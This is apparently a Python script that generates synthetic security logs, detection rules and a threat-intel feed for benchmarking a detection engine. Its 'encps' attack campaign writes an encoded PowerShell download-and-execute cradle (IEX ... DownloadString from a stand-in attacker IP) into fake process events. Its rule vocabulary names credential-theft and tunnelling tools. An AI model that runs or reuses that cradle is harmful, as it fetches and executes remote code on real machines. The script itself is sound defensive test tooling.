#!/usr/bin/env python3
"""bench/gen.py: deterministic synthetic inputs for vigil's benchmarks
(Python 3 standard library only).

  gen.py events [--shape S] [--count N] [--seed N] [--users N] [--hosts N]
                [--ips N] [--attack-rate F] [--attacks LIST] [--eps N]
                [--start TIME] [--keyed]             JSON lines on stdout
  gen.py rules  --count N --out DIR [--seed N]       generated rule files
  gen.py ti     --count N --out FILE [--seed N]      threat-intel CSV feed
  gen.py stats  FILE...                              count and average size

Event shapes (--shape):
  ecs       normalized events per docs/fields.md (sign-ins, Windows logons,
            process starts, NSG flows), for `vigil test --source none`
  entra     Entra ID sign-ins, diagnostic-settings export shape (entra-signin)
  winevent  Windows Security 4624/4625/4688, flat nxlog shape (winevent)
  nsg       Azure NSG flow log v2 records, one flow tuple each (nsg-flow)

Background traffic is drawn from fixed pools of --users, --hosts and --ips
(the key cardinality of stateful rules). With probability --attack-rate an
event belongs to an attack campaign instead; campaigns run their course one
after another, each in a short span of event time so the shipped rules'
windows see them:
  spray      one IP, 30 different users, Entra 50126 / 4625 failures
  brute      one IP and one user, 25 failures
  encps      a 4688 process start of powershell -EncodedCommand <base64>
  portscan   one IP to 40 different destination ports (flows, denied)
Attacks a shape cannot express are left out (no port scan in sign-ins).
Same arguments and seed, same bytes: the output is reproducible.
"""
import argparse
import base64
import datetime
import ipaddress
import json
import os
import random
import sys

DUMPS = json.JSONEncoder(separators=(",", ":"), ensure_ascii=False).encode

APPS = [("Office 365 Exchange Online", "00000002-0000-0ff1-ce00-000000000000"),
        ("Microsoft Teams", "1fec8e78-bce4-4aaf-ab1b-5451cc387264"),
        ("Azure Portal", "c44b4083-3bb0-49c1-b47d-974e53cbdf3c"),
        ("Office 365 SharePoint Online", "00000003-0000-0ff1-ce00-000000000000"),
        ("Microsoft Authentication Broker", "29d9ed98-a469-4536-ade2-f981bc1d605e")]
CLIENTS = ["Browser", "Mobile Apps and Desktop clients", "Exchange ActiveSync"]
AGENTS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/124.0",
          "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) Safari/605.1",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4) Mobile/15E148",
          "Microsoft Office/16.0 (Windows NT 10.0; Outlook 16.0)"]
PLACES = [("US", "Seattle"), ("US", "New York"), ("GB", "London"), ("DE", "Berlin"),
          ("NL", "Amsterdam"), ("FR", "Paris"), ("IN", "Bengaluru"), ("JP", "Tokyo")]
FAILURES = [("50126", "Invalid username or password or Invalid on-premise username or password."),
            ("50053", "Account is locked."),
            ("500121", "Authentication failed during strong authentication request."),
            ("50074", "Strong Authentication is required."),
            ("50055", "The password is expired.")]
PROCS = [("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"),
         ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
         ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"OUTLOOK.EXE\" /recycle"),
         ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami /all"),
         ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          "powershell.exe -NoProfile -File C:\\scripts\\inventory.ps1"),
         ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
          "\"chrome.exe\" --type=renderer --lang=en-US"),
         ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe Install $(Arg0)")]
PARENTS = ["C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\services.exe",
           "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\svchost.exe"]
PORTS = [443, 443, 443, 80, 53, 445, 3389, 22, 1433, 5985]
NSG_RULES = ["DefaultRule_AllowInternetOutBound", "DefaultRule_DenyAllInBound",
             "UserRule_AllowHttps", "DefaultRule_AllowVnetInBound"]
DOMAIN = "contoso.com"
NETBIOS = "CONTOSO"
RESOURCE = ("/SUBSCRIPTIONS/5A1E0000-0000-0000-0000-000000000000/RESOURCEGROUPS/RG1/"
            "PROVIDERS/MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/NSG1")


def ip_pool(rng, n):
    """n distinct public-looking IPv4 addresses: the documentation and
    GeoIP-test networks first (some hit enrich-geoip's test database),
    then other ranges."""
    nets = ["203.0.113.0/24", "198.51.100.0/24", "94.102.48.0/22", "20.40.0.0/14",
            "52.96.0.0/12", "81.2.69.0/24", "185.220.100.0/22", "40.112.0.0/13"]
    out, seen = [], set()
    hosts = [ipaddress.ip_network(x) for x in nets]
    i = 0
    while len(out) < n:
        net = hosts[i % len(hosts)]
        a = str(net[rng.randrange(1, net.num_addresses - 1)])
        if a not in seen:
            seen.add(a)
            out.append(a)
        i += 1
    return out


class Gen:
    def __init__(self, a):
        self.rng = random.Random(a.seed)
        self.shape = a.shape
        self.users = ["user%05d" % i for i in range(a.users)]
        self.uids = ["%08x-%04x-4%03x-8%03x-%012x" % (self.rng.getrandbits(32), i & 0xffff,
                                                     i & 0xfff, (i >> 12) & 0xfff,
                                                     self.rng.getrandbits(48))
                     for i in range(a.users)]
        self.hosts = ["ws%05d" % i for i in range(a.hosts)]
        self.ips = ip_pool(self.rng, a.ips)
        self.internal = ["10.%d.%d.%d" % (i >> 16 & 255, i >> 8 & 255, 1 + i % 250)
                         for i in range(max(a.hosts, 1))]
        self.attack_rate = a.attack_rate
        kinds = {"ecs": ["spray", "brute", "encps", "portscan"],
                 "entra": ["spray", "brute"],
                 "winevent": ["spray", "brute", "encps"],
                 "nsg": ["portscan"]}[a.shape]
        self.attacks = [k for k in a.attacks.split(",") if k in kinds] if a.attacks else kinds
        self.campaign = None
        self.ncampaign = 0
        self.t_ms = int(datetime.datetime.fromisoformat(a.start.replace("Z", "+00:00"))
                        .timestamp() * 1000)
        self.step_ms = 1000.0 / a.eps
        self.t_acc = 0.0

    # ------------------------------------------------------------- time
    def tick(self):
        self.t_acc += self.rng.expovariate(1.0 / self.step_ms) if self.step_ms > 0 else 0
        return self.t_ms + int(self.t_acc)

    _sec = None
    _secstr = ""

    def second(self, ms):  # "YYYY-MM-DD hh:mm:ss", formatted once per second
        s = ms // 1000
        if s != self._sec:
            d = datetime.datetime.fromtimestamp(s, datetime.timezone.utc)
            self._sec, self._secstr = s, d.strftime("%Y-%m-%d %H:%M:%S")
        return self._secstr

    def rfc3339(self, ms):
        return "%sT%s.%03dZ" % (self.second(ms)[:10], self.second(ms)[11:], ms % 1000)

    def spaced(self, ms):  # nxlog / Sentinel "YYYY-MM-DD hh:mm:ss.fff"
        return "%s.%03d" % (self.second(ms), ms % 1000)

    # -------------------------------------------------------- campaigns
    def next_campaign(self):
        r = self.rng
        kind = self.attacks[self.ncampaign % len(self.attacks)]
        self.ncampaign += 1
        ip = "185.220.%d.%d" % (100 + r.randrange(4), 1 + r.randrange(254))
        c = {"kind": kind, "ip": ip, "i": 0}
        if kind == "spray":
            c["n"] = 30
            c["victims"] = r.sample(self.users, min(30, len(self.users)))
        elif kind == "brute":
            c["n"] = 25
            c["user"] = r.choice(self.users)
        elif kind == "encps":
            c["n"] = 1
        else:
            c["n"] = 40
            c["ports"] = r.sample(range(1, 10000), 40)
            c["dst"] = r.choice(self.internal)
        self.campaign = c

    def attack(self, t):
        if self.campaign is None or self.campaign["i"] >= self.campaign["n"]:
            self.next_campaign()
        c = self.campaign
        i = c["i"]
        c["i"] += 1
        k = c["kind"]
        if k == "spray":
            return self.auth(t, c["victims"][i % len(c["victims"])], c["ip"], "50126")
        if k == "brute":
            return self.auth(t, c["user"], c["ip"], "50126")
        if k == "encps":
            script = "IEX (New-Object Net.WebClient).DownloadString('http://%s/a.ps1')" % c["ip"]
            enc = base64.b64encode(script.encode("utf-16-le")).decode()
            return self.process(t, self.rng.choice(self.users), self.rng.choice(self.hosts),
                                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                "powershell.exe -NoP -W Hidden -enc " + enc)
        return self.flow(t, c["ip"], c["dst"], 40000 + i, c["ports"][i], "T", "I", "D")

    # ------------------------------------------------------- background
    def event(self):
        t = self.tick()
        r = self.rng
        if r.random() < self.attack_rate:
            return self.attack(t)
        s = self.shape
        if s == "ecs":
            x = r.random()
            s = "entra" if x < 0.45 else "logon" if x < 0.6 else "process" if x < 0.8 else "nsg"
        elif s == "winevent":
            s = "logon" if r.random() < 0.55 else "process"
        if s in ("entra", "logon"):
            fail = r.random() < 0.08
            code = r.choice(FAILURES)[0] if fail else "0"
            return self.auth(t, r.choice(self.users), r.choice(self.ips), code,
                             windows=(s == "logon"))
        if s == "process":
            exe, cmd = r.choice(PROCS)
            return self.process(t, r.choice(self.users), r.choice(self.hosts), exe, cmd)
        inbound = r.random() < 0.4
        ext, inn = r.choice(self.ips), r.choice(self.internal)
        if inbound:
            return self.flow(t, ext, inn, r.randrange(1024, 65535), r.choice(PORTS), "T", "I",
                             "D" if r.random() < 0.5 else "A")
        return self.flow(t, inn, ext, r.randrange(1024, 65535), r.choice(PORTS),
                         "U" if r.random() < 0.1 else "T", "O", "A")

    # ----------------------------------------------------------- shapes
    def auth(self, t, user, ip, code, windows=None):
        r = self.rng
        if windows is None:
            windows = self.shape == "winevent" or (self.shape == "ecs" and r.random() < 0.3)
        ui = int(user[4:]) if user.startswith("user") else 0
        uid = self.uids[ui % len(self.uids)]
        fail = code != "0"
        if windows:
            host = self.hosts[(ui * 7) % len(self.hosts)]
            eid = 4625 if fail else 4624
            ltype = r.choice(["3", "3", "10", "2"])
            if self.shape == "winevent":
                rec = {"EventTime": self.spaced(t)[:19], "Hostname": host + ".contoso.local",
                       "EventID": eid, "Channel": "Security",
                       "SourceName": "Microsoft-Windows-Security-Auditing",
                       "EventType": "AUDIT_FAILURE" if fail else "AUDIT_SUCCESS",
                       "TimeCreated": self.spaced(t), "TargetUserName": user,
                       "TargetDomainName": NETBIOS, "TargetUserSid": "S-1-5-21-3940915590-%d" % (1000 + ui),
                       "LogonType": ltype, "IpAddress": ip, "IpPort": str(r.randrange(1024, 65535)),
                       "WorkstationName": host.upper(), "AuthenticationPackageName": "NTLM"}
                if fail:
                    rec["Status"] = "0xc000006d"
                    rec["SubStatus"] = "0xc000006a"
                return rec
            return {"@timestamp": self.rfc3339(t),
                    "event": {"kind": "event", "category": "authentication", "type": "start",
                              "action": "logon-failed" if fail else "logged-in", "code": str(eid),
                              "outcome": "failure" if fail else "success",
                              "dataset": "windows.security"},
                    "winlog": {"event_id": eid, "channel": "Security", "logon": {"type": ltype}},
                    "host": {"name": host + ".contoso.local", "os": {"type": "windows"}},
                    "user": {"name": user, "domain": NETBIOS},
                    "vigil": {"user": user, "host": host},
                    "source": {"ip": ip, "port": r.randrange(1024, 65535)}}
        app, appid = r.choice(APPS)
        client = r.choice(CLIENTS)
        cc, city = PLACES[ui % len(PLACES)] if r.random() < 0.97 else r.choice(PLACES)
        risk = "none" if r.random() < 0.98 else r.choice(["low", "medium", "high"])
        upn = "%s@%s" % (user, DOMAIN)
        reason = next((d for c, d in FAILURES if c == code), "Other failure") if fail else None
        if self.shape == "entra":
            props = {"userPrincipalName": upn, "userId": uid, "ipAddress": ip,
                     "appDisplayName": app, "clientAppUsed": client,
                     "status": {"errorCode": int(code)}, "riskLevelDuringSignIn": risk,
                     "location": {"countryOrRegion": cc, "city": city},
                     "userAgent": r.choice(AGENTS)}
            if fail:
                props["status"]["failureReason"] = reason
            return {"time": self.rfc3339(t), "category": "SignInLogs", "resultType": code,
                    "properties": props}
        ev = {"@timestamp": self.rfc3339(t),
              "event": {"kind": "event", "category": "authentication", "type": "start",
                        "action": "signin", "code": code, "outcome": "failure" if fail else "success",
                        "dataset": "azure.signinlogs"},
              "user": {"name": upn}, "vigil": {"user": user},
              "source": {"ip": ip, "geo": {"country_iso_code": cc, "city_name": city}},
              "azure": {"signin": {"app_name": app, "client_app": client, "risk_level": risk}},
              "user_agent": {"original": r.choice(AGENTS)}}
        if fail:
            ev["error"] = {"code": code}
        return ev

    def process(self, t, user, host, exe, cmd):
        r = self.rng
        name = exe.rsplit("\\", 1)[-1]
        parent = r.choice(PARENTS)
        pid, ppid = r.randrange(1000, 60000), r.randrange(400, 20000)
        if self.shape == "winevent":
            return {"EventTime": self.spaced(t)[:19], "Hostname": host + ".contoso.local",
                    "EventID": 4688, "Channel": "Security",
                    "SourceName": "Microsoft-Windows-Security-Auditing",
                    "EventType": "AUDIT_SUCCESS", "TimeCreated": self.spaced(t),
                    "SubjectUserName": user, "SubjectDomainName": NETBIOS,
                    "NewProcessName": exe, "NewProcessId": hex(pid), "ProcessId": hex(ppid),
                    "CommandLine": cmd, "ParentProcessName": parent}
        return {"@timestamp": self.rfc3339(t),
                "event": {"kind": "event", "category": "process", "type": "start",
                          "action": "process-created", "code": "4688",
                          "dataset": "windows.security"},
                "host": {"name": host + ".contoso.local"}, "user": {"name": user, "domain": NETBIOS},
                "vigil": {"user": user, "host": host},
                "process": {"name": name, "executable": exe, "command_line": cmd, "pid": pid,
                            "parent": {"executable": parent}}}

    def flow(self, t, src, dst, sport, dport, proto, direction, decision):
        r = self.rng
        rule = ("DefaultRule_DenyAllInBound" if decision == "D" else r.choice(NSG_RULES[2:])) \
            if direction == "I" else NSG_RULES[0]
        state = r.choice("BCE")
        if state == "B":
            counts = ",,,"
            pk1 = pk2 = b1 = b2 = 0
        else:
            pk1, pk2 = r.randrange(1, 40), r.randrange(1, 40)
            b1, b2 = pk1 * r.randrange(60, 1400), pk2 * r.randrange(60, 1400)
            counts = "%d,%d,%d,%d" % (pk1, b1, pk2, b2)
        if self.shape == "nsg":
            tup = "%d,%s,%s,%d,%d,%s,%s,%s,%s,%s" % (t // 1000, src, dst, sport, dport, proto,
                                                   direction, decision, state, counts)
            return {"time": self.rfc3339(t), "category": "NetworkSecurityGroupFlowEvent", "resourceId": RESOURCE,
                    "operationName": "NetworkSecurityGroupFlowEvents",
                    "properties": {"Version": 2, "flows": [{"rule": rule, "flows": [
                        {"mac": "000D3AF87856", "flowTuples": [tup]}]}]}}
        ev = {"@timestamp": self.rfc3339(t),
              "event": {"kind": "event", "category": "network",
                        "type": "denied" if decision == "D" else "allowed",
                        "action": {"B": "flow-begin", "C": "flow-continue", "E": "flow-end"}[state],
                        "provider": "NSG", "dataset": "azure.nsgflow"},
              "network": {"direction": "inbound" if direction == "I" else "outbound",
                          "transport": "tcp" if proto == "T" else "udp"},
              "source": {"ip": src, "port": sport}, "destination": {"ip": dst, "port": dport},
              "azure": {"nsg": {"rule": rule}}}
        if state != "B":
            ev["source"].update(packets=pk1, bytes=b1)
            ev["destination"].update(packets=pk2, bytes=b2)
        return ev


def entity_key(ev):
    """The address or host an event is about, for --keyed: what a shipper
    would partition by so one entity's events stay on one partition."""
    for get in (lambda e: e["source"]["ip"], lambda e: e["properties"]["ipAddress"],
                lambda e: e["IpAddress"], lambda e: e["Hostname"],
                lambda e: e["properties"]["flows"][0]["flows"][0]["flowTuples"][0].split(",")[1],
                lambda e: e["host"]["name"]):
        try:
            return get(ev)
        except (KeyError, IndexError, TypeError):
            pass
    return ""


def cmd_events(a):
    g = Gen(a)
    out = sys.stdout
    buf = []
    for _ in range(a.count):
        ev = g.event()
        buf.append(entity_key(ev) + "\t" + DUMPS(ev) if a.keyed else DUMPS(ev))
        if len(buf) >= 4096:
            out.write("\n".join(buf) + "\n")
            buf = []
    if buf:
        out.write("\n".join(buf) + "\n")


# ------------------------------------------------------------------ rules
# Rules are built from families (what they detect) and a vocabulary per
# family (the selective equality each rule is filed under in the index:
# an event code, a process name, a port, an app...). Rule k of a family
# takes the k-th word, and the first words are the ones the event stream
# carries, so a small set covers the traffic and a large one adds rules
# for event types that are rare or absent: the way a real pack grows (many
# detections, few candidates per event). Half the rules are stateless
# (match rules, a quarter of them with a Lua `match`), half threshold rules.
FAIL_CODES = ["50126", "50053", "500121", "50074", "50055", "50057", "50076", "50079",
              "50140", "53003", "70044", "90094", "50158", "81010"]
EVENT_CODES = ["4625", "4771", "4776", "50126", "4768", "4769", "4740", "4648", "529", "680"]
PROC_NAMES = ["powershell.exe", "cmd.exe", "whoami.exe", "net.exe", "wmic.exe", "reg.exe",
              "rundll32.exe", "regsvr32.exe", "mshta.exe", "certutil.exe", "bitsadmin.exe",
              "schtasks.exe", "sc.exe", "nltest.exe", "vssadmin.exe", "bcdedit.exe",
              "cscript.exe", "wscript.exe", "msbuild.exe", "installutil.exe"]
APP_NAMES = [a for a, _ in APPS] + ["Azure CLI", "Microsoft Graph PowerShell", "Visual Studio",
                                    "OneDrive SyncEngine", "Power BI", "Dynamics CRM",
                                    "Windows Sign In", "Intune Company Portal"]
DST_PORTS = [443, 80, 53, 445, 3389, 22, 1433, 5985, 8080, 8443, 25, 110, 143, 3306, 5432, 6379,
             9200, 27017, 11211, 2375]
LOGON_TYPES = ["3", "10", "2", "7", "9", "11", "4", "5"]
CLIENT_APPS = CLIENTS + ["IMAP4", "POP3", "Authenticated SMTP", "Exchange Web Services",
                         "Other clients"]
COUNTRIES = ["US", "GB", "DE", "NL", "FR", "IN", "JP", "KP", "IR", "RU", "CN", "BR", "NG", "UA"]
LOLBINS = ["mimikatz", "procdump", "psexec", "rubeus", "sharphound", "lazagne", "nanodump",
           "adfind", "rclone", "ngrok", "plink", "chisel"]


def q(v):
    return '"%s"' % v if isinstance(v, str) else str(v)


def stateless_rule(fam, k, r):
    u = "user%05d" % r.randrange(5000)
    h = "ws%05d" % r.randrange(1000)
    w = lambda voc: voc[k % len(voc)]
    fams = [
        ('["event.category"] = "authentication", ["error.code"] = %s, '
         '["user.name"] = vigil.startswith "%s"' % (q(w(FAIL_CODES)), u), 'ip = "source.ip"', None),
        ('["azure.signin.app_name"] = %s, ["azure.signin.risk_level"] = {"high", "medium"}'
         % q(w(APP_NAMES)), 'account = "vigil.user"', None),
        ('["process.name"] = %s, ["process.command_line"] = vigil.contains " -w hidden -enc %d"'
         % (q(w(PROC_NAMES)), r.randrange(100)), 'host = "vigil.host"', None),
        ('["event.category"] = "process", ["process.executable"] = vigil.like "*\\\\%s.exe"'
         % w(LOLBINS), 'host = "vigil.host"', None),
        ('["destination.port"] = %d, ["source.ip"] = vigil.cidr "185.220.%d.0/24"'
         % (w(DST_PORTS), 100 + r.randrange(4)), 'ip = "source.ip"', None),
        ('["source.geo.country_iso_code"] = %s, ["event.outcome"] = "failure"'
         % q(w(COUNTRIES[::-1])), 'account = "vigil.user"', None),
        ('["winlog.logon.type"] = %s, ["vigil.host"] = "%s"' % (q(w(LOGON_TYPES)), h),
         'host = "vigil.host"', None),
        ('["event.category"] = "authentication", ["error.code"] = %s' % q(w(FAIL_CODES[1:])),
         'account = "vigil.user"', 'function(e) return e["vigil.user"] == "%s" end' % u),
        ('["network.direction"] = "outbound", ["destination.port"] = %d' % w(DST_PORTS),
         'ip = "destination.ip"',
         'function(e) local b = e["source.bytes"] return b ~= nil and b > %d end'
         % (1000000 + r.randrange(1000000))),
        ('["process.name"] = %s' % q(w(PROC_NAMES[::-1])), 'host = "vigil.host"',
         'function(e) local c = e["process.command_line"] return c ~= nil and c:find("%s", 1, true) ~= nil end'
         % r.choice(["shadow", "delete", "/trusts", "recoveryenabled", "-urlcache"])),
    ]
    return fams[fam % len(fams)] + (None,)


def stateful_rule(fam, k, r):
    n = r.randrange(10, 40)
    win = r.choice(["1m", "5m", "10m", "30m"])
    w = lambda voc: voc[k % len(voc)]
    fams = [
        ('["event.category"] = "authentication", ["error.code"] = %s' % q(w(FAIL_CODES)),
         'by = "source.ip", distinct = "user.name", count = %d, window = "%s"' % (n, win),
         'ip = "source.ip"'),
        ('["event.code"] = %s, ["event.outcome"] = "failure"' % q(w(EVENT_CODES)),
         'by = {"vigil.user", "source.ip"}, count = %d, window = "%s"' % (n, win),
         'account = "vigil.user", ip = "source.ip"'),
        ('["event.type"] = "denied", ["azure.nsg.rule"] = %s'
         % q(w(["DefaultRule_DenyAllInBound", "UserRule_DenyRdp", "UserRule_DenySmb",
                "UserRule_DenyAll", "DefaultRule_DenyAllOutBound"])),
         'by = "source.ip", distinct = "destination.port", count = %d, window = "%s"' % (n, win),
         'ip = "source.ip"'),
        ('["process.name"] = %s' % q(w(PROC_NAMES)),
         'by = "vigil.host", count = %d, window = "%s"' % (n * 5, win), 'host = "vigil.host"'),
        ('["azure.signin.app_name"] = %s, ["event.outcome"] = "success"' % q(w(APP_NAMES)),
         'by = "vigil.user", distinct = "source.ip", count = %d, window = "%s"' % (n // 2, win),
         'account = "vigil.user"'),
        ('["network.direction"] = "outbound", ["destination.port"] = %d' % w(DST_PORTS),
         'by = {"source.ip", "destination.ip"}, count = %d, window = "%s"' % (n * 20, win),
         'ip = "destination.ip"'),
        ('["event.code"] = "4624", ["winlog.logon.type"] = %s' % q(w(LOGON_TYPES)),
         'by = "source.ip", distinct = "vigil.host", count = %d, window = "%s"' % (n, win),
         'ip = "source.ip"'),
        ('["azure.signin.client_app"] = %s, ["event.outcome"] = "failure"' % q(w(CLIENT_APPS)),
         'by = "source.ip", count = %d, window = "%s"' % (n, win), 'ip = "source.ip"'),
    ]
    where, ent, thr = fams[fam % len(fams)][0], fams[fam % len(fams)][2], fams[fam % len(fams)][1]
    return where, ent, None, thr


def cmd_rules(a):
    r = random.Random(a.seed)
    os.makedirs(a.out, exist_ok=True)
    for i in range(a.count):
        # even rules stateful, odd ones stateless; rule 1 (the 1-rule set)
        # is a password-spray threshold. Family f, k-th rule of it.
        stateful = i % 2 == 0
        j = i // 2
        nf = 8 if stateful else 10
        fam, k = j % nf, j // nf
        if stateful:
            where, ent, match, thr = stateful_rule(fam, k, r)
        else:
            where, ent, match, thr = stateless_rule(fam, k, r)
        rid = "BENCH-%04d" % (i + 1)
        lines = ["-- generated by bench/gen.py rules (seed %d)" % a.seed,
                 "return vigil.rule {",
                 '  id = "%s",' % rid,
                 '  title = "bench rule %d (%s)",' % (i + 1, "threshold" if stateful else "match"),
                 '  severity = "%s",' % r.choice(["low", "medium", "high"]),
                 '  tactic = "Credential Access", technique = "T1110",',
                 "  where = { %s }," % where]
        if match:
            lines.append("  match = %s," % match)
        if thr:
            lines.append("  threshold = { %s }," % thr)
        lines.append("  entities = { %s }," % ent)
        lines.append('  suppress = "%s",' % r.choice(["10m", "1h"]))
        lines.append("}")
        with open(os.path.join(a.out, "%s.lua" % rid), "w") as f:
            f.write("\n".join(lines) + "\n")


def cmd_ti(a):
    """A CSV feed (type,value,provider,confidence,description): the attack
    IPs of the generator (185.220.100.0/22), a share of the background
    pool, and filler indicators of every kind."""
    r = random.Random(a.seed)
    rows = []
    for x in range(100, 104):
        for y in range(1, 255, 3):
            rows.append(("ipv4", "185.220.%d.%d" % (x, y), "bench-feed", 90, "Tor exit / scanner"))
    for ip in ip_pool(random.Random(a.seed), 500)[::50]:
        rows.append(("ipv4", ip, "bench-feed", 60, "seen in phishing"))
    while len(rows) < a.count:
        k = r.randrange(4)
        if k == 0:
            v = ("ipv4", "%d.%d.%d.%d" % (r.randrange(1, 224), r.randrange(256), r.randrange(256),
                                          r.randrange(1, 255)))
        elif k == 1:
            v = ("domain", "x%08x.example-bad%d.net" % (r.getrandbits(32), r.randrange(100)))
        elif k == 2:
            v = ("sha256", "%064x" % r.getrandbits(256))
        else:
            v = ("cidr", "%d.%d.%d.0/24" % (r.randrange(1, 224), r.randrange(256), r.randrange(256)))
        rows.append((v[0], v[1], "bench-feed", r.randrange(30, 100), "generated"))
    with open(a.out, "w") as f:
        f.write("type,value,provider,confidence,description\n")
        for row in rows[:max(a.count, 1)]:
            f.write("%s,%s,%s,%d,%s\n" % row)


def cmd_stats(a):
    for p in a.files:
        n = b = 0
        with open(p, "rb") as f:
            for line in f:
                n += 1
                b += len(line) - 1
        print("%s: %d events, %.0f bytes average" % (p, n, b / n if n else 0))


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = p.add_subparsers(dest="cmd", required=True)
    e = sub.add_parser("events")
    e.add_argument("--shape", choices=["ecs", "entra", "winevent", "nsg"], default="ecs")
    e.add_argument("--count", type=int, default=100000)
    e.add_argument("--seed", type=int, default=1)
    e.add_argument("--users", type=int, default=5000)
    e.add_argument("--hosts", type=int, default=1000)
    e.add_argument("--ips", type=int, default=2000)
    e.add_argument("--attack-rate", type=float, default=0.02)
    e.add_argument("--attacks", default="", help="comma-separated subset of "
                   "spray,brute,encps,portscan (default: all the shape can express)")
    e.add_argument("--eps", type=float, default=1000.0,
                   help="events per second of event time (default 1000)")
    e.add_argument("--start", default="2024-05-01T00:00:00Z")
    e.add_argument("--keyed", action="store_true",
                   help="print KEY<TAB>JSON, KEY the event's source address (else host), "
                   "for kcat -K '\\t'")
    e.set_defaults(fn=cmd_events)
    r = sub.add_parser("rules")
    r.add_argument("--count", type=int, required=True)
    r.add_argument("--out", required=True)
    r.add_argument("--seed", type=int, default=1)
    r.set_defaults(fn=cmd_rules)
    t = sub.add_parser("ti")
    t.add_argument("--count", type=int, default=10000)
    t.add_argument("--out", required=True)
    t.add_argument("--seed", type=int, default=1)
    t.set_defaults(fn=cmd_ti)
    s = sub.add_parser("stats")
    s.add_argument("files", nargs="+")
    s.set_defaults(fn=cmd_stats)
    a = p.parse_args()
    if getattr(a, "count", 1) < 0 or (a.cmd == "events" and (a.users < 1 or a.hosts < 1 or
                                                             a.ips < 1 or a.eps <= 0)):
        p.error("counts must be positive")
    try:
        a.fn(a)
    except BrokenPipeError:
        sys.stderr.close()


if __name__ == "__main__":
    main()
